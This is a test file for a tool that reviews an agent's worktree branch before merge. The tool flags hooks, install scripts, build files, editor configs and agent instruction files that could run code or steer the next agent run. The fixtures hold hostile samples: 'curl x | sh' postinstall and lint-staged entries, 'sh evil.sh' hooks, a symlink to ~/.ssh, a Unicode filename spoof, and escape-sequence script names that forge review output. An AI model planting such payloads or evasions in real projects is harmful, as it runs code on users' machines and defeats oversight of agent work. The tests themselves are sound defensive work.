import assert from 'node:assert/strict';
import { test } from 'node:test';
import { formatReview, parseRaw, type RawChange, review } from '../../lib/worktree/review.js';
import { freshName, NAME_PATTERN } from '../../lib/worktree/names.js';

const A = 'a'.repeat(40);
const B = 'b'.repeat(40);
const C = 'c'.repeat(40);

test('worktree names: three readable words, never one taken', () => {
  const taken = new Set<string>();
  for (let i = 0; i < 50; i++) {
    const n = freshName((x) => taken.has(x));
    assert.match(n, NAME_PATTERN);
    assert.equal(n.split('-').length, 3);
    assert.equal(taken.has(n), false);
    taken.add(n);
  }
});

const Z = '0'.repeat(40);
const ch = (path: string, o: Partial<RawChange> = {}): RawChange => ({ oldMode: '100644', newMode: '100644', oldOid: A, newOid: B, status: 'M', path, ...o });

test('git diff --raw -z is parsed, odd names included', () => {
  const raw = `:000000 100755 ${Z} ${B} A\0dir/run me.sh\0:100644 100644 ${A} ${B} M\0a\nb\0:120000 000000 ${A} ${Z} D\0link\0`;
  assert.deepEqual(parseRaw(raw), [
    { oldMode: '000000', newMode: '100755', oldOid: Z, newOid: B, status: 'A', path: 'dir/run me.sh' },
    { oldMode: '100644', newMode: '100644', oldOid: A, newOid: B, status: 'M', path: 'a\nb' },
    { oldMode: '120000', newMode: '000000', oldOid: A, newOid: Z, status: 'D', path: 'link' },
  ]);
  assert.deepEqual(parseRaw(''), []);
});

test('the merge review names what would run on your machine, and nothing else', () => {
  const blobs: Record<string, string> = {
    [A]: JSON.stringify({ scripts: { test: 'node t', build: 'tsc' } }),
    [B]: JSON.stringify({ scripts: { test: 'node t', build: 'tsc -b', postinstall: 'curl x | sh' } }),
    [C]: '/home/u/.ssh',
  };
  const read = (oid: string) => blobs[oid] ?? null;
  const findings = review([
    ch('src/index.ts'),
    ch('README.md', { status: 'A', oldOid: Z, oldMode: '000000' }),
    ch('.husky/pre-commit', { status: 'A', oldMode: '000000', newMode: '100755', oldOid: Z }),
    ch('.githooks/pre-push'),
    ch('.envrc', { status: 'A', oldOid: Z, oldMode: '000000' }),
    ch('.vscode/tasks.json'),
    ch('.vscode/launch.json'),
    ch('.vscode/extensions.json'),
    ch('package.json'),
    ch('packages/web/package.json', { newOid: A }),
    ch('Makefile'),
    ch('lib/rules.mk'),
    ch('.github/workflows/ci.yml'),
    ch('.gitattributes'),
    ch('.gitmodules'),
    ch('.npmrc'),
    ch('build.rs'),
    ch('setup.py'),
    ch('.pre-commit-config.yaml'),
    ch('scripts/deploy.sh', { newMode: '100755' }),
    ch('key', { status: 'A', oldOid: Z, oldMode: '000000', newMode: '120000', newOid: C }),
    ch('.claude/settings.json', { status: 'A', oldOid: Z, oldMode: '000000' }),
    ch('.claude/commands/deploy.md'),
    ch('.mcp.json'),
    ch('CLAUDE.md'),
    ch('.claude/notes.txt'),
    // (Review, round 30) A submodule moved to another commit; unmoved, nothing.
    ch('vendor/lib', { oldMode: '160000', newMode: '160000' }),
    ch('vendor/same', { oldMode: '160000', newMode: '160000', newOid: A }),
  ], read);
  assert.deepEqual(findings, [
    { path: '.claude/commands/deploy.md', why: 'agent configuration: hooks, commands or MCP servers your next agent run obeys; changed' },
    { path: '.claude/settings.json', why: 'agent configuration: hooks, commands or MCP servers your next agent run obeys; added' },
    { path: '.envrc', why: 'direnv: runs when you enter the folder; added' },
    { path: '.gitattributes', why: 'git attributes (filters and diff drivers run git config commands); changed' },
    { path: '.githooks/pre-push', why: 'git hook (runs when a hooks path points here); changed' },
    { path: '.github/workflows/ci.yml', why: 'CI configuration; changed' },
    { path: '.gitmodules', why: 'submodules; changed' },
    { path: '.husky/pre-commit', why: 'git hook (runs when a hooks path points here); added' },
    { path: '.husky/pre-commit', why: 'new executable file' },
    { path: '.mcp.json', why: 'agent configuration: hooks, commands or MCP servers your next agent run obeys; changed' },
    { path: '.npmrc', why: 'package manager configuration; changed' },
    { path: '.pre-commit-config.yaml', why: 'git hook manager configuration; changed' },
    { path: '.vscode/extensions.json', why: 'a config your tools run or obey in its folder (.vscode), which a run keeps from the agent; changed' },
    { path: '.vscode/launch.json', why: 'editor tasks, launch or settings (may run on open); changed' },
    { path: '.vscode/tasks.json', why: 'editor tasks, launch or settings (may run on open); changed' },
    { path: 'CLAUDE.md', why: 'agent instructions your next agent run follows; changed' },
    { path: 'Makefile', why: 'build file; changed' },
    { path: 'build.rs', why: 'runs on build, install or test; changed' },
    { path: 'key', why: 'symbolic link to "/home/u/.ssh" (new)' },
    { path: 'lib/rules.mk', why: 'build file; changed' },
    { path: 'package.json', why: 'scripts changed: "build", postinstall (runs on install)' },
    { path: 'scripts/deploy.sh', why: 'made executable' },
    { path: 'setup.py', why: 'runs on build, install or test; changed' },
    { path: 'vendor/lib', why: "submodule moved to another commit: git submodule update checks out the agent's" },
  ]);
  assert.equal(
    formatReview('stashbase/x', [{ path: '.envrc', why: 'direnv: runs when you enter the folder; added' }, { path: '.envrc', why: 'new executable file' }, { path: 'Makefile', why: 'build file; changed' }]),
    'stashbase/x changes files that can run code on your machine; look at them before merging (git diff HEAD...stashbase/x -- <path>):\n  .envrc    direnv: runs when you enter the folder; added; new executable file\n  Makefile  build file; changed',
  );
});

test("the merge review uses the run's own tool-config list, case variants and HFS's ignored characters included, and manifests, container files and editor-loaded configs with code in them", () => {
  const D = 'd'.repeat(40);
  const E = 'e'.repeat(40);
  const blobs: Record<string, string> = {
    [A]: '[project]\nname = "x"\n',
    [B]: '[project]\nname = "x"\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    [C]: '[package]\nname = "x"\n',
    [D]: '[package]\nname = "x"\nbuild = "build.rs"\n',
    [E]: '{ "compilerOptions": { "plugins": [{ "name": "evil-plugin" }] } }',
  };
  const read = (oid: string) => blobs[oid] ?? null;
  const paths = [
    '.VSCODE/tasks.json', 'MAKEFILE', '.cursor/rules/x.mdc', '.zed/settings.json', 'pkg/.nvim.lua', '.python-version', 'rust-toolchain.toml', '.codex/config.toml',
    'CMakeLists.txt', 'gradle/wrapper/gradle-wrapper.properties', 'compose.yaml', 'docker/Dockerfile.dev', 'eslint.config.js', '.v\u200cscode/settings.json',
    'node_modules/.vscode/x', 'src/app.ts',
  ];
  const findings = review([
    ...paths.map((p) => ch(p)),
    ch('pyproject.toml', { oldOid: A, newOid: B }),
    ch('crates/x/Cargo.toml', { oldOid: C, newOid: D }),
    ch('Cargo.toml', { oldOid: C, newOid: C }),
    ch('tsconfig.json', { oldOid: Z, oldMode: '000000', status: 'A', newOid: E }),
  ], read);
  const flagged = [...new Set(findings.map((f) => f.path))].sort();
  assert.deepEqual(flagged, [
    '.VSCODE/tasks.json', '.codex/config.toml', '.cursor/rules/x.mdc', '.python-version', '.v\u200cscode/settings.json', '.zed/settings.json', 'CMakeLists.txt', 'MAKEFILE',
    'compose.yaml', 'crates/x/Cargo.toml', 'docker/Dockerfile.dev', 'eslint.config.js', 'gradle/wrapper/gradle-wrapper.properties', 'pkg/.nvim.lua', 'pyproject.toml', 'rust-toolchain.toml', 'tsconfig.json',
  ].sort());
  const why = (p: string) => findings.filter((f) => f.path === p).map((f) => f.why);
  assert.deepEqual(why('.cursor/rules/x.mdc'), ['a config your tools run or obey in its folder (.cursor), which a run keeps from the agent; changed']);
  assert.deepEqual(why('pyproject.toml'), ['Python build system (an in-tree backend or build hook runs on install); changed']);
  assert.deepEqual(why('tsconfig.json'), ['TypeScript plugins your editor loads; added']);
  assert.deepEqual(why('MAKEFILE'), ['build file; changed']);
});

test('(review, round 26) the merge review names git commit hook runners and more files tools load as code: in package.json (lint-staged, husky, simple-git-hooks, pre-commit, yorkie, ghooks), their config files, Python build hooks, Gemfile, MSBuild imports, .pdbrc; control: a package.json change elsewhere is not named', () => {
  const [P0, P1, P2, P3, Y0, Y1] = ['1', '2', '3', '4', '5', '6'].map((c) => c.repeat(40)) as [string, string, string, string, string, string];
  const blobs: Record<string, string> = {
    [P0]: '{"name":"x","version":"1.0.0"}',
    [P1]: '{"name":"x","version":"1.0.0","lint-staged":{"*":"sh -c \'curl x | sh\'"}}',
    [P2]: '{"name":"x","version":"1.0.1","config":{"ghooks":{"pre-commit":"sh evil.sh"}},"simple-git-hooks":{"pre-commit":"sh evil.sh"}}',
    [P3]: '{"name":"x","version":"1.0.2"}',
    [Y0]: '[project]\nname = "x"\n',
    [Y1]: '[project]\nname = "x"\n[tool.hatch.build.hooks.custom]\npath = "docs/evil.py"\n',
  };
  const read = (oid: string) => blobs[oid] ?? null;
  const paths = ['.lintstagedrc.json', 'lint-staged.config.js', 'commitlint.config.js', '.huskyrc', 'hatch_build.py', 'Gemfile', 'Directory.Build.props', '.mocharc.js', '.pdbrc', 'docs/readme.txt'];
  const findings = review([
    ...paths.map((p) => ch(p)),
    ch('package.json', { oldOid: P0, newOid: P1 }),
    ch('web/package.json', { oldOid: P0, newOid: P2 }),
    ch('api/package.json', { oldOid: P0, newOid: P3 }),
    ch('pyproject.toml', { oldOid: Y0, newOid: Y1 }),
  ], read);
  const why = (p: string) => findings.filter((f) => f.path === p).map((f) => f.why);
  assert.deepEqual(why('package.json'), ['git hook runner settings changed: lint-staged (run on your next git commit or push)']);
  assert.deepEqual(why('web/package.json'), ['git hook runner settings changed: config.ghooks, simple-git-hooks (run on your next git commit or push)']);
  assert.deepEqual(why('api/package.json'), [], 'control: a version bump runs nothing');
  assert.deepEqual(why('pyproject.toml'), ['Python build system (an in-tree backend or build hook runs on install); changed']);
  assert.deepEqual(why('.lintstagedrc.json'), ['git commit hook runner configuration (runs on your next git commit); changed']);
  assert.deepEqual(why('.pdbrc'), ['runs as code when your tools load it (install, build, test or debugger); changed']);
  assert.deepEqual(why('docs/readme.txt'), [], 'control');
  // A KELVIN SIGN is a K on macOS's file systems (canonically the same): Ma\u212Aefile is a Makefile there.
  assert.deepEqual(review([ch('Ma\u212Aefile')], read).map((f) => f.why), ['build file; changed']);
  assert.deepEqual([...new Set(findings.map((f) => f.path))].sort(), ['.huskyrc', '.lintstagedrc.json', '.mocharc.js', '.pdbrc', 'Directory.Build.props', 'Gemfile', 'commitlint.config.js', 'hatch_build.py', 'lint-staged.config.js', 'package.json', 'pyproject.toml', 'web/package.json'].sort());
});

test("(review, round 35) script names are the branch's JSON keys: one holding newlines and escape sequences, and eighty of them, never forge a line of the review nor push its findings off the screen; control: the names themselves hold the raw bytes", () => {
  const A = 'a'.repeat(40);
  const B = 'b'.repeat(40);
  const Z = '0'.repeat(40);
  const forged = 'a' + '\n'.repeat(80) + 'stashbase/x changes files that can run code on your machine:\n  README.md     documentation (no code)';
  const names = [`t\x1b[2J\nFORGED LINE`, forged, ...Array.from({ length: 80 }, (_, i) => `s${i}`)];
  const blobs: Record<string, string> = { [B]: JSON.stringify({ scripts: Object.fromEntries(names.map((n) => [n, 'true'])) }) };
  const findings = review([ch('.envrc', { status: 'A', oldOid: Z, oldMode: '000000', newOid: A }), ch('package.json', { status: 'A', oldOid: Z, oldMode: '000000', newOid: B })], (oid) => blobs[oid] ?? null);
  assert.ok(Object.keys(JSON.parse(blobs[B]!).scripts).some((n: string) => n.includes('\x1b[2J\n')), 'the control: raw in the manifest');
  const shown = formatReview('stashbase/x', findings);
  const lines = shown.split('\n');
  assert.equal(lines.length, 3, shown.slice(0, 400));
  assert.match(lines[1]!, /^ {2}\.envrc +direnv/);
  assert.ok(lines[2]!.startsWith('  package.json  scripts changed: '));
  assert.ok(lines[2]!.endsWith(' and 72 more'), lines[2]!.slice(-80));
  assert.doesNotMatch(shown, /\x1b/);
  assert.ok(lines[2]!.length < 1000);
});
